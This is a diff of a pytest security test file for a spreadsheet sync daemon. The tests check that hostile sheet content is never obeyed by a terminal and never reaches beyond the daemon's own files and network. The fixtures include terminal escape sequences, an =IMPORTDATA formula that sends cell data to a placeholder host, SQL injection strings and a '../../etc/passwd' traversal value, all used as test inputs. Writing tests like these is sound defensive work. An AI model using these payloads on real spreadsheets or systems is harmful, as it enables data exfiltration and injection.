@@ -1,4 +1,4 @@
-"""Whoever may edit the sheet can make the daemon do nothing but rewrite that sheet; and what is shown is not obeyed."""
+"""Whoever may edit the sheet can make us do nothing but rewrite that sheet; what is shown is not obeyed."""
 
 from __future__ import annotations
 
@@ -7,6 +7,7 @@ import hashlib
 import json
 import os
 import pty
+import select
 import signal
 import struct
 import subprocess
@@ -27,12 +28,14 @@ from moneymentor_sync.sandbox.errors import ApiError
 
 from .workbench import TAB, Workbench, body
 
+PATIENCE = 60.0
 ANSI = "\x1b[7;31;45m"
 OBEYED = (ANSI, "\x1b]", "\x9b", "\u202e", "\u2028", "\x07", "\x08", "\x7f")
 """None of these may reach a terminal; colours of our own are others."""
 EVIL = f"{ANSI}EVIL\x1b]0;title\x07\x9b7m\u202e\u2028\x08\x7f[/red][link=http://x.example]l[/link]\n\r\tx"
 MARKUP = "[/red]", "[link=http://x.example]l[/link]"
 IMPORTS = '=IMPORTDATA("http://x.example/?"&A1)'
+TITLE = EVIL[:90].replace("\n", " ")
 LONG = EVIL + "y" * 45_000
 
 
@@ -43,6 +46,10 @@ class Ran:
     screen: str
     codes: list[int]
     events: list[list[str]]
+
+    def all_well(self) -> bool:
+        assert set(self.codes) == {0}, self.screen[-3000:]
+        return True
 
     def obeys_nothing(self) -> None:
         assert [mark for mark in OBEYED if mark in self.screen] == []
@@ -68,7 +75,8 @@ class Terminal:
             "[sync]\ninterval_seconds = 3600\nretry_delay_seconds = 0\nmax_retries = 0\n"
             "enable_course_stats = false\nenable_user_profiles = false\n"
             f'[state]\npath = "{self.bench.state}"\n[control]\nsocket = "{self.socket}"\n'
-            f'[[datasets]]\nname = "people"\ntab = "{TAB}"\nkey = ["id"]\nverify = "always"\nquery = """{query}"""\n{more}'
+            f'[[datasets]]\nname = "people"\ntab = "{TAB}"\nkey = ["id"]\nverify = "always"\n'
+            f'query = """{query}"""\n{more}'
         )
 
     def run(self, *commands: str, until: bytes | None = None) -> Ran:
@@ -102,6 +110,9 @@ def _terminal() -> Iterator[tuple[int, int]]:
 def _read(terminal: int, process: subprocess.Popen[bytes], until: bytes | None) -> bytes:
     screen = b""
     while True:
+        if not select.select([terminal], [], [], PATIENCE)[0]:
+            process.kill()
+            raise AssertionError(f"nothing more within {PATIENCE:g} s: {screen[-3000:]!r}")
         try:
             part = os.read(terminal, 65_536)
         except OSError:  # nobody has the other end any more
@@ -125,15 +136,17 @@ def only_its_own(bench: Workbench, run: Path, events: list[list[str]]) -> None:
     strange = []
     for event, *given in events:
         places = [one for one in given if one.startswith("/")]
-        if event in ("socket.connect",):
-            allowed = f"'{url[0]}', {url[1]}" in " ".join(given) or str(run) in " ".join(given)
+        if event == "socket.connect":
+            allowed = f"'{url[0]}', {url[1]}" in given[-1] or str(run) in given[-1]
+        elif event == "socket.bind":  # urllib3 tries, when it is loaded, whether the machine has IPv6
+            allowed = given[-1] == "('::1', 0)" or str(run) in given[-1]
         elif event.startswith("sqlite3."):
             allowed = not places or any(bench.database.name in one or one.startswith(mine) for one in places)
         else:
             allowed = bool(places) and all(one.startswith(mine) for one in places)
         if not allowed:
             strange.append([event, *given])
-    assert strange == []
+    assert {tuple(one) for one in strange} == set()
 
 
 class Watch:
@@ -168,7 +181,7 @@ def hostile(bench: Workbench) -> None:
     person.type(TAB, 1, 1, IMPORTS)
     person.type_rows(TAB, 0, 3, [[EVIL, IMPORTS, LONG], [EVIL, IMPORTS, "x"], [LONG, "=A1", EVIL]])
     person.type(TAB, 2, 2, EVIL)
-    person.rename_tab(TAB, EVIL[:90].replace("\n", " "))
+    person.rename_tab(TAB, TITLE)
     person.add_tab(f"{MARKUP[0]}{ANSI}two")
     sheet = next(s.sheet_id for s in bench.box.document(bench.spreadsheet).sheets if s.title != FENCE_TAB)
     person.request(
@@ -190,9 +203,10 @@ def test_nothing_that_people_put_in_is_obeyed_by_a_terminal_or_reaches_beyond_th
     """Every command, with its screen and all that it did, while the sheet is full of traps; and once refused."""
     bench.people(*ROWS)
     bench.sql("UPDATE people SET name = ?", (EVIL,))
-    columns = f'columns = [{{ name = "name", header = {json.dumps(MARKUP[0] + ANSI)} }}, {{ name = "score" }}]\n'
-    terminal.configure(more=columns)
-    assert terminal.run("sync").codes == [0]
+    header = json.dumps(MARKUP[0] + ANSI)
+    columns = f'{{ name = "name", header = {header} }}, {{ name = "score" }}, {{ name = "id" }}'
+    terminal.configure(more=f"columns = [{columns}]\n")
+    assert terminal.run("sync").all_well()
     hostile(bench)
     watch = Watch(bench)
     ran = terminal.run("check", "plan", "plan --json", "sync", "sync --json", "plan", "status", "history")
@@ -201,12 +215,11 @@ def test_nothing_that_people_put_in_is_obeyed_by_a_terminal_or_reaches_beyond_th
     ran.obeys_nothing()
     only_its_own(bench, terminal.run_directory, ran.events)
     watch.nothing_else(drive=True)
-    title = EVIL[:90].replace("\n", " ")
-    assert [row[:2] for row in bench.rows(title)] == body([[EVIL, score] for _, _, score in ROWS])
+    assert [row[:2] for row in bench.rows(TITLE)] == body([[EVIL, score] for _, _, score in ROWS])
 
-    bench.person.type_rows(title, 4, 0, [[EVIL, "5", "=A1", EVIL]])
-    bench.person.type(title, 4, 2, "99")
-    before = bench.grid(title)
+    bench.person.type_rows(TITLE, 4, 0, [[EVIL, "5", "=A1", EVIL]])
+    bench.person.type(TITLE, 4, 2, "99")
+    before = bench.grid(TITLE)
     ran = terminal.run(
         "check", "plan", "sync", "sync --json", "status", "status --json", "history", "history --json"
     )
@@ -215,23 +228,22 @@ def test_nothing_that_people_put_in_is_obeyed_by_a_terminal_or_reaches_beyond_th
     ran.obeys_nothing()
     only_its_own(bench, terminal.run_directory, ran.events)
     watch.nothing_else(drive=True)
-    assert bench.grid(title) == before
+    assert bench.grid(TITLE) == before
 
 
 def test_the_daemon_does_nothing_but_rewrite_the_sheet_and_logs_on_one_line_each(
     bench: Workbench, terminal: Terminal
 ) -> None:
     bench.people(*ROWS)
-    assert terminal.run("sync").codes == [0]
+    assert terminal.run("sync").all_well()
     hostile(bench)
     watch = Watch(bench)
-    ran = terminal.run("run", until=b"run.finished")
+    ran = terminal.run("run", until=b"sync.finished")
     assert ran.codes == [0], ran.screen
     ran.obeys_nothing()
     only_its_own(bench, terminal.run_directory, ran.events)
     watch.nothing_else()
-    title = EVIL[:90].replace("\n", " ")
-    assert [row[:3] for row in bench.rows(title)] == body(ROWS)
+    assert [row[:3] for row in bench.rows(TITLE)] == body(ROWS)
     assert [event for event in ran.events if event[0].startswith("socket.bind")], "the watching hook saw nothing"
 
 
@@ -246,7 +258,7 @@ def forged_tab(bench: Workbench) -> None:
 def forged_fence(bench: Workbench) -> None:
     """On a tab of a person's, under an absurd id."""
     sheet = bench.person.add_tab("Mine")
-    bench.person.type(TAB if TAB in bench.box.tabs(bench.spreadsheet) else "Mine", 9, 9, "mine")
+    bench.person.type("Mine", 0, 0, IMPORTS)
     for name, token in zip(FENCE_NAMES, ("'; DROP TABLE people; --", "../../etc/passwd"), strict=True):
         given = {"name": name, "namedRangeId": token, "range": {"sheetId": sheet, "endRowIndex": 1}}
         bench.person.request({"addNamedRange": {"namedRange": given}})
@@ -254,8 +266,8 @@ def forged_fence(bench: Workbench) -> None:
 
 def moved_fence(bench: Workbench) -> None:
     """The real one taken away, and another with its name put over our own tab."""
-    for one in bench.box.document(bench.spreadsheet).named_ranges:
-        bench.person.request({"deleteNamedRange": {"namedRangeId": one.named_range_id}})
+    for one in list(bench.box.document(bench.spreadsheet).named.values()):
+        bench.person.request({"deleteNamedRange": {"namedRangeId": one.range_id}})
     forged_fence(bench)
 
 
@@ -265,11 +277,11 @@ def forged_staging(bench: Workbench) -> None:
         bench.person.type(f"{STAGING_PREFIX}{number}", 0, 0, IMPORTS)
 
 
-@pytest.mark.parametrize("forge", [forged_tab, forged_fence, forged_staging])
-@pytest.mark.parametrize("rows", [3, 20_000])
+@pytest.mark.parametrize(
+    ("forge", "rows"), [(forged_tab, 3), (forged_fence, 3), (forged_staging, 3), (forged_staging, 20_000)]
+)
 def test_forged_marks_before_the_first_sync_change_nothing(bench: Workbench, forge: Any, rows: int) -> None:
     forge(bench)
-    watch = Watch(bench)
     bench.people(*[(i, f"p{i}", i) for i in range(rows)])
     watch = Watch(bench)
     assert bench.sync().inserted == rows
@@ -303,15 +315,16 @@ def test_formulas_in_managed_cells_and_headers_are_put_back_and_never_read_as_va
     bench.sync()
     bench.person.type(TAB, 1, 1, "=1+1")
     bench.person.type(TAB, 2, 2, "=3*2")
-    bench.person.type(TAB, 0, 1, IMPORTS)
     assert isinstance(bench.grid()[1][1], Formula)
-    result = bench.sync()
-    assert result.result == "synced"
+    assert bench.sync().put_back == 2
+    bench.person.type(TAB, 0, 1, IMPORTS)
+    assert isinstance(bench.grid()[0][1], Formula)
+    assert bench.sync().result == "synced"
     assert bench.grid() == [["id", "name", "score"], [1.0, "=1+1", 5.0], [2.0, "Bob", 6.0]]
     assert bench.sync().result == "unchanged"
 
 
-@pytest.mark.parametrize("key", ["1", "'1", "TRUE", "=1", "1.0000000000000002", " 1", "١"])
+@pytest.mark.parametrize("key", ["1", "'1", "TRUE", "=1", "1.0000000000000002", " 1", "\u0661"])
 def test_a_row_whose_key_looks_like_anothers_takes_nothing_from_it(bench: Workbench, key: str) -> None:
     bench.people(*ROWS)
     bench.sync()
@@ -342,9 +355,34 @@ def test_thousands_of_strange_columns_are_gone_through_once_to_find_a_header(ben
     assert result.reads <= 3
 
 
-@pytest.mark.parametrize(
-    "title", [EVIL[:90].replace("\n", " "), "'; DROP TABLE people; --", "A1", "R1C1", "..", "''"]
-)
+def test_memory_does_not_grow_with_what_people_put_beside_and_below(bench: Workbench, terminal: Terminal) -> None:
+    """Four times as many filled cells, read in parts, take no more than half as much again."""
+    bench.people(*ROWS)
+    first = weighed(terminal)
+    assert first["result"] == "unchanged", first
+    bench.person.insert_columns(TAB, 3, 197)
+    peaks = []
+    for start, end in ((4, 150), (150, 600)):
+        bench.person.type_rows(TAB, start, 3, [["filled in"] * 200] * (end - start))
+        found = weighed(terminal)
+        assert (found["result"], found["reads"] > end * 200 // PART) == ("unchanged", True)
+        peaks.append(found["peak"])
+    assert peaks[1] < 1.5 * peaks[0]
+
+
+PART = 10_000
+
+
+def weighed(terminal: Terminal) -> dict[str, Any]:
+    """A sync in a process of its own, and the most memory that it took."""
+    command = [sys.executable, "-m", "tests.weighed", str(terminal.config), str(PART)]
+    env = {"HOME": str(terminal.bench.directory), "PATH": "/usr/bin:/bin", "PYTHONPATH": os.pathsep.join(sys.path)}
+    done = subprocess.run(command, env=env, capture_output=True, timeout=PATIENCE, check=True)
+    found: dict[str, Any] = json.loads(done.stdout)
+    return found
+
+
+@pytest.mark.parametrize("title", [TITLE, "'; DROP TABLE people; --", "A1", "R1C1", "..", "''"])
 def test_a_tab_may_be_called_anything(bench: Workbench, title: str) -> None:
     bench.people(*ROWS)
     bench.sync()
